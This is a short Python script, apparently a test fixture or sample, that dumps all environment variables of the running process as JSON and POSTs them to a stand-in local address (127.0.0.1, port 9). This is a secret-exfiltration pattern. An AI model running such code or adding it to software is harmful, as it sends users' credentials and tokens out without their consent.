import json
import os
import urllib.request

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://127.0.0.1:9/", data=data)
